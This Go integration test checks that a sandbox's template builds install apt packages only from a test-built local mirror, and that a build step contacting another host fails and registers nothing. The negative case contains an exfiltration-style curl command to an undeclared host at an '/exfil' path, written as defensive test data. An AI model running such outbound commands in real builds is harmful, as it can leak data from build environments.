package integration

import (
	"context"
	"crypto/sha256"
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
	"time"

	corral "github.com/corralhq/corral/sdk/go"
)

// testNetTemplatePackages: a template spec's packages install with apt
// from the mirror its apt_sources name, through the egress proxy. The
// mirror is a flat Debian repository that the test builds (dpkg-deb) and
// the upstream namespace serves as allowed.test. The build reaches that
// mirror and nothing else; the template's own apt configuration is left
// as it was; a build whose command reaches for another host fails and
// registers nothing.
func testNetTemplatePackages(t *testing.T, fx *netFixture) {
	if _, err := exec.LookPath("dpkg-deb"); err != nil {
		t.Skip("needs dpkg-deb")
	}
	ctx := context.Background()
	c := fx.srv.c
	marker := "corral-hello-" + randHex(4)
	deb := buildDeb(t, "corral-hello", "1.0", "#!/bin/sh\necho "+marker+"\n")
	repo := serveFlatRepo(fx.up, "/repo/", map[string][]byte{"corral-hello_1.0_all.deb": deb},
		"Package: corral-hello\nVersion: 1.0\nArchitecture: all\nMaintainer: corral tests <tests@corral.invalid>\n"+
			fmt.Sprintf("Filename: corral-hello_1.0_all.deb\nSize: %d\nSHA256: %x\n", len(deb), sha256.Sum256(deb))+
			"Description: corral test package\n")
	source := "deb [trusted=yes] http://" + hostAllowed + repo + " ./"

	name := "aptpkg" + strings.ToLower(randHex(3))
	var lines []string
	tv, err := c.BuildTemplate(ctx, corral.TemplateSpec{Name: name, Version: "1", Base: "base",
		Packages: []string{"corral-hello"}, AptSources: []string{source}}, func(l string) { lines = append(lines, l) })
	if err != nil {
		t.Fatalf("build: %v\n%s", err, strings.Join(lines, "\n"))
	}
	if got := fx.up.requests(repo + "corral-hello_1.0_all.deb"); len(got) == 0 || got[0].Host != hostAllowed {
		t.Fatalf("the mirror never served the package (requests %+v)", got)
	}

	sb := fx.newSandbox(t, fx.srv, corral.CreateOptions{Template: tv.Ref})
	res, err := sb.Run(ctx, "corral-hello; dpkg-query -W -f '${Status}\\n' corral-hello; "+
		"grep -rl "+hostAllowed+" /etc/apt /var/lib/apt/lists; ls /run/corral-build-sources.list /run/corral-build-sources.d 2>&1 | grep -c 'No such file'",
		corral.RunOptions{})
	if err != nil {
		t.Fatal(err)
	}
	if want := marker + "\ninstall ok installed\n2\n"; res.Stdout != want {
		t.Fatalf("sandbox of %s printed %q (stderr %q), want %q: the package, its status, no trace of the build's sources", tv.Ref, res.Stdout, res.Stderr, want)
	}

	// The build may reach the mirror only: a command that fetches from
	// another host fails the build, which registers nothing.
	bad := corral.TemplateSpec{Name: name, Version: "2", Base: "base", Packages: []string{"corral-hello"}, AptSources: []string{source},
		Run: []corral.TemplateCommand{{Command: "curl -sSf http://" + hostOther + "/exfil"}}}
	if _, err := c.BuildTemplate(ctx, bad, nil); err == nil {
		t.Fatal("a build reached a host its spec does not name")
	}
	if len(fx.up.requests("/exfil")) != 0 {
		t.Fatal("the upstream saw the build's request to an undeclared host")
	}
	list, err := c.Templates(ctx, name)
	if err != nil {
		t.Fatal(err)
	}
	if len(list) != 1 || list[0].Ref != tv.Ref {
		t.Fatalf("after a failed build the versions are %+v, want only %s", list, tv.Ref)
	}
}

// buildDeb builds an architecture-independent Debian package that installs
// script as /usr/bin/NAME.
func buildDeb(t *testing.T, name, version, script string) []byte {
	t.Helper()
	dir := t.TempDir()
	root := filepath.Join(dir, "root")
	for path, data := range map[string]string{
		"DEBIAN/control":  fmt.Sprintf("Package: %s\nVersion: %s\nArchitecture: all\nMaintainer: corral tests <tests@corral.invalid>\nDescription: corral test package\n", name, version),
		"usr/bin/" + name: script,
	} {
		p := filepath.Join(root, path)
		if err := os.MkdirAll(filepath.Dir(p), 0o755); err != nil {
			t.Fatal(err)
		}
		if err := os.WriteFile(p, []byte(data), 0o755); err != nil {
			t.Fatal(err)
		}
	}
	if err := os.Chmod(filepath.Join(root, "DEBIAN/control"), 0o644); err != nil {
		t.Fatal(err)
	}
	out := filepath.Join(dir, name+".deb")
	runCmd(t, "dpkg-deb", "--root-owner-group", "-Zgzip", "--build", root, out)
	data, err := os.ReadFile(out)
	if err != nil {
		t.Fatal(err)
	}
	return data
}

// serveFlatRepo serves a flat Debian repository (`deb URI ./`) under
// prefix on the upstream: the files, a Packages index (stanzas given)
// and a Release file with its hash. It returns prefix.
func serveFlatRepo(u *netUpstream, prefix string, files map[string][]byte, stanzas ...string) string {
	for name, data := range files {
		u.serveFile(prefix+name, data)
	}
	packages := []byte(strings.Join(stanzas, "\n"))
	u.serveFile(prefix+"Packages", packages)
	u.serveFile(prefix+"Release", []byte(fmt.Sprintf(
		"Origin: corral-test\nLabel: corral-test\nSuite: test\nCodename: test\nDate: %s\nArchitectures: all amd64\nSHA256:\n %x %d Packages\n",
		time.Now().UTC().Format(time.RFC1123), sha256.Sum256(packages), len(packages))))
	return prefix
}
